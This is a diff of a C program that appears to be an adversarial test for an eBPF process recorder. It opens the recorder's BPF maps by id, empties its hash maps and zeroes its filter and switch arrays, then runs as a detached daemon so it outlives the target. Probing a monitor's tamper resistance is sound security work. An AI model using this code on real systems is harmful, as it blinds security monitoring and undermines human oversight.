@@ -3,7 +3,8 @@
  * machine is touched), open each by id (BPF_MAP_GET_FD_BY_ID), empty every hash map and zero
  * every small writable array (the .bss/.data globals: filters, target pids, switches). Then
  * fork + exec /bin/touch rtm4_bpf_tamper. Nothing is read from the maps' contents: this is the
- * blind attack any root package can make on an eBPF recorder. */
+ * blind attack any root package can make on an eBPF recorder. It runs in a daemon (double fork
+ * + setsid) so that it survives the target. */
 #include "r4.h"
 #include <linux/bpf.h>
 #define MAXM 256
@@ -38,13 +39,8 @@ static int ids_of(pid_t pid, unsigned *ids, int max)
     closedir(d);
     return n;
 }
-int main(void)
+static void attack(pid_t rec)
 {
-    pid_t rec = find_recorder();
-    if (!rec) {
-        fprintf(stderr, "no recorder ancestor\n");
-        return 1;
-    }
     unsigned mine[MAXM];
     int nm = ids_of(rec, mine, MAXM);
     /* Maps any other process holds are shared: leave them alone. */
@@ -129,5 +125,13 @@ int main(void)
     int st = spawn_wait(argv);
     did("recorder %d: %d maps (%d shared, skipped); emptied %d hash maps, zeroed %d arrays, %d entries [%s]; then touch: status %d",
         rec, nm, nshared, hashes, arrays, entries, names, st);
-    return 0;
+}
+int main(void)
+{
+    pid_t rec = find_recorder();
+    if (!rec) {
+        fprintf(stderr, "no recorder ancestor\n");
+        return 1;
+    }
+    return in_daemon(rec, attack, SCRATCH "/rtm4_bpf_tamper");
 }
